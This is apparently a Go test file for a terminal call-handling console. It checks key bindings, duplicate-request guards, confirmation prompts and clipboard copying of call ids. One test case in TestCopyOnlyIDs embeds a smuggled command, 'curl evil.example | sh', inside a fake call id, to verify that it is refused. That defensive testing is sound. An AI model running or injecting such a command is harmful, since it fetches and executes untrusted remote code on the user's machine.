package ui

import (
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/callboard/callboard/desk"
	"github.com/callboard/callboard/webex"
)

// Every verb key sends the request the verb table describes, on the
// selected call.
func TestVerbKeysSendTheirRequests(t *testing.T) {
	now := epoch()
	tests := []struct {
		name   string
		call   webex.Call
		keys   []string
		typed  string
		method string
	}{
		{"answer", ringing("c", "Jane Roe", "+14155550123", now), []string{"a"}, "", "Answer"},
		{"reject", ringing("c", "Jane Roe", "+14155550123", now), []string{"r"}, "", "Reject"},
		{"hang up", connected("c", "Jane Roe", "+14155550123", now), []string{"e"}, "", "Hangup"},
		{"hold", connected("c", "Jane Roe", "+14155550123", now), []string{"h"}, "", "Hold"},
		{"resume", held("c", "Jane Roe", "+14155550123", now), []string{"space"}, "", "Resume"},
		{"mute", connected("c", "Jane Roe", "+14155550123", now), []string{"m"}, "", "Mute"},
		{"record", connected("c", "Jane Roe", "+14155550123", now), []string{"o"}, "", "StartRecording"},
		{"transfer", connected("c", "Jane Roe", "+14155550123", now), []string{"t"}, "101", "Transfer"},
		{"transfer to voicemail", connected("c", "Jane Roe", "+14155550123", now), []string{"t"}, "vm", "Divert"},
		{"divert", ringing("c", "Jane Roe", "+14155550123", now), []string{"v"}, "vm", "Divert"},
		{"park", connected("c", "Jane Roe", "+14155550123", now), []string{"p"}, "group", "Park"},
		{"dtmf", connected("c", "Jane Roe", "+14155550123", now), []string{"#"}, "1,234", "TransmitDTMF"},
		{"dial", connected("c", "Jane Roe", "+14155550123", now), []string{"d"}, "+12223334444", "Dial"},
		{"pick up", connected("c", "Jane Roe", "+14155550123", now), []string{"u"}, "", "Pickup"},
		{"barge in", connected("c", "Jane Roe", "+14155550123", now), []string{"b"}, "104", "BargeIn"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, 120, 40)
			h.poll(tt.call)
			h.key(tt.keys...)
			if h.app.prompt != nil {
				h.typeText(tt.typed)
				h.key("enter")
			}
			if got := h.api.count(tt.method); got != 1 {
				t.Fatalf("%s sent %d times, want 1; requests %+v", tt.method, got, h.api.sent(false))
			}
		})
	}
}

// Bug: a double press sent a call-changing request twice.
func TestDoublePressSendsOnceThroughTheKeys(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(ringing("c", "Jane Roe", "+14155550123", epoch()))
	h.key("a")
	h.key("a") // the reply came, the list still shows it ringing (the fake did not change)
	if got := h.api.count("Answer"); got != 1 {
		t.Fatalf("answer sent %d times", got)
	}
	if !strings.Contains(h.statusText(), "already sent") {
		t.Errorf("status %q does not say the answer is on its way", h.statusText())
	}
}

// Bug: enter was both "submit the prompt" and "answer": a second enter right
// after a prompt closed answered a waiting caller.
func TestEnterThatClosedAPromptDoesNotAnswer(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(connected("talk", "Bob", "1002", epoch()), ringing("wait", "Jane Roe", "+14155550123", epoch()))
	h.key("up") // the ringing call is on top; select it, then dial from it
	h.key("d")
	h.typeText("1234")
	h.key("enter")
	h.clock.set(h.clock.Now().Add(120 * time.Millisecond))
	h.key("enter")
	if got := h.api.count("Answer"); got != 0 {
		t.Fatalf("the enter after the prompt answered a call (%d answers)", got)
	}
	if got := h.api.count("Dial"); got != 1 {
		t.Fatalf("dial sent %d times", got)
	}
}

// Enter on the list answers only the selected call, never another.
func TestEnterAnswersOnlyTheSelectedCall(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(connected("talk", "Bob", "1002", epoch()), ringing("wait", "Jane Roe", "+14155550123", epoch()))
	h.run(h.app.step(desk.Select{ID: "talk"}), 0)
	h.key("enter")
	if got := h.api.count("Answer"); got != 0 {
		t.Fatalf("enter on a connected call answered another call")
	}
	h.key("a")
	if got := h.api.count("Answer"); got != 0 {
		t.Fatalf("a on a connected call answered another call: one behaviour for a, enter and :answer")
	}
}

// Bug: ":" commands acted on whatever was selected at enter. The command
// line binds the call when it opens.
func TestCommandLineBindsTheCallWhenItOpens(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(connected("alice", "Alice", "1001", epoch()))
	h.key(":")
	h.typeText("hangup")
	// Alice hangs up; Bob rings in and takes the selection.
	h.poll(ringing("bob", "Bob", "1002", epoch().Add(time.Second)))
	if sel := h.app.desk.Board().SelectedID(); sel != "bob" {
		t.Fatalf("selected %q, want Bob to have taken it", sel)
	}
	h.key("enter")
	if n := h.api.count("Hangup") + h.api.count("Reject"); n != 0 {
		t.Fatalf("the command typed for Alice acted on Bob (%d requests)", n)
	}
	if !strings.Contains(h.statusText(), "Alice: call already ended") {
		t.Errorf("status %q, want Alice's call already ended", h.statusText())
	}
}

// `:transfer vm` goes to voicemail as `t` then vm does: one behaviour.
func TestCommandTransferToVoicemail(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(connected("c", "Jane Roe", "+14155550123", epoch()))
	h.key(":")
	h.typeText("transfer vm")
	h.key("enter")
	if got := h.api.count("Divert"); got != 1 {
		t.Fatalf(":transfer vm sent %d diverts; status %q", got, h.statusText())
	}
}

// Bug: t then enter joined two strangers. An empty transfer is refused;
// joining is J, confirmed, naming both.
func TestJoinIsExplicitAndConfirmed(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(held("a", "Alice", "1001", epoch()), connected("b", "Bob", "1002", epoch()))
	h.key("t", "enter")
	if got := h.api.count("Transfer"); got != 0 {
		t.Fatal("an empty transfer prompt joined the two calls")
	}
	h.key("esc")
	h.key("J")
	h.wantScreen("join", "Alice", "Bob", "you drop out")
	if got := h.api.count("Transfer"); got != 0 {
		t.Fatal("J joined before the confirmation")
	}
	h.key("y")
	if got := h.api.count("Transfer"); got != 1 {
		t.Fatalf("join sent %d times after the confirmation, want 1", got)
	}
	req := h.api.sent(false)[0].req.(webex.TransferRequest)
	if req.CallID1 == "" || req.CallID2 == "" || req.Destination != "" {
		t.Errorf("join sent %+v, want both call ids", req)
	}
}

// Bug: ctrl+c in a prompt quit the program. It cancels the prompt.
func TestCtrlCInAPromptCancelsIt(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(connected("c", "Jane Roe", "+14155550123", epoch()))
	h.key("t")
	h.typeText("10")
	h.key("ctrl+c")
	if h.quit() {
		t.Fatal("ctrl+c in a prompt quit the console")
	}
	if h.app.prompt != nil {
		t.Fatal("the prompt is still open after ctrl+c")
	}
	h.advance(time.Second)
	h.key("ctrl+c")
	if !h.quit() {
		t.Fatal("ctrl+c on the list does not quit")
	}
}

// Bug: esc followed quickly by a key arrives as alt+key and left the prompt
// open. It closes the prompt, then the key acts.
func TestEscThenKeyClosesThePrompt(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(connected("c", "Jane Roe", "+14155550123", epoch()))
	h.key("t")
	h.key("alt+h")
	if h.app.prompt != nil {
		t.Fatal("alt+h left the prompt open")
	}
	if got := h.api.count("Hold"); got != 1 {
		t.Fatalf("the h typed after esc did not hold the call (%d holds)", got)
	}
	// A capital arrives with shift as well: esc then J opens the join.
	h.poll(held("a", "Alice", "1001", epoch()), connected("c", "Jane Roe", "+14155550123", epoch()))
	h.key("t")
	h.send(tea.KeyPressMsg{Code: 'j', ShiftedCode: 'J', Mod: tea.ModAlt | tea.ModShift})
	h.wantScreen("you drop out")
}

// Keys that cannot act say why and open nothing.
func TestRefusedKeyOpensNothing(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.poll(ringing("c", "Jane Roe", "+14155550123", epoch()))
	h.key("t")
	if h.app.prompt != nil {
		t.Fatal("a refused transfer opened a prompt")
	}
	if !strings.Contains(h.statusText(), "ringing") {
		t.Errorf("status %q does not say why", h.statusText())
	}
}

// Bug: help said "1 dial Jordan Lee" while the key would transfer the
// selected call, and a digit transferred a connected caller at once.
func TestSpeedDialHelpAndConfirmation(t *testing.T) {
	h := newHarness(t, 120, 40, func(o *Options) {
		o.SpeedDial = []SpeedDial{{Label: "Jordan Lee", Destination: "101"}}
		o.Keys, _ = o.Keys.Apply(nil, []int{1})
	})
	h.key("?")
	h.wantScreen("1 dial Jordan Lee (101)")
	h.key("esc")
	h.poll(connected("c", "Jane Roe", "+14155550123", epoch()))
	h.key("?")
	h.wantScreen("1 transfer to Jordan Lee (101)")
	h.noScreen("dial Jordan")
	h.key("esc")
	h.key("1")
	if got := h.api.count("Transfer"); got != 0 {
		t.Fatal("speed dial transferred without a confirmation")
	}
	h.wantScreen("transfer Jane Roe to Jordan Lee (101)?")
	h.key("enter")
	if got := h.api.count("Transfer"); got != 1 {
		t.Fatalf("confirmed speed dial sent %d transfers", got)
	}
}

// Bug: while the history was open a ringing call showed nowhere.
func TestRingingCallVisibleFromTheHistory(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.key("tab")
	h.poll(ringing("c", "Jane Roe", "+14155550123", epoch()))
	h.wantScreen("1 ringing: Jane Roe", "tab shows the calls")
	h.key("?")
	h.wantScreen("1 ringing: Jane Roe")
}

// A call that ends while the history is open refreshes it, and missed
// calls seen there do not count as missed.
func TestHistoryFollowsTheLine(t *testing.T) {
	h := newHarness(t, 120, 40)
	h.key("tab")
	before := h.api.count("ListHistory")
	h.poll(ringing("c", "Jane Roe", "+14155550123", epoch()))
	h.poll()
	if h.api.count("ListHistory") <= before {
		t.Error("the open history was not refreshed when a call ended")
	}
	h.key("tab")
	h.noScreen("1 missed")
}

// Issue 10, break 6: :copy put the raw server id on the clipboard,
// newlines included. Only ids that look like ids are copied.
func TestCopyOnlyIDs(t *testing.T) {
	for _, tt := range []struct {
		id     string
		copied bool
	}{
		{"Y2lzY29zcGFyazovL3VzL0NBTEwvMQ==", true},
		{"Y2lz\ncurl evil.example | sh\n", false},
		{strings.Repeat("A", 512), true},
		{strings.Repeat("A", 513), false},
		{"Y2lz Y29z", false},
	} {
		var copied []string
		h := newHarness(t, 120, 40, func(o *Options) {
			o.clipboard = func(s string) tea.Cmd { copied = append(copied, s); return nil }
		})
		h.poll(connected(tt.id, "Jane Roe", "+14155550123", epoch()))
		h.key(":")
		h.typeText("copy")
		h.key("enter")
		switch {
		case tt.copied && (len(copied) != 1 || copied[0] != tt.id):
			t.Errorf("copied %q, want the call id", copied)
		case !tt.copied && len(copied) != 0:
			t.Errorf("an id with a line break went to the clipboard: %q", copied)
		case !tt.copied && !strings.Contains(h.statusText(), "not an id"):
			t.Errorf("status %q does not say why nothing was copied", h.statusText())
		}
	}
}
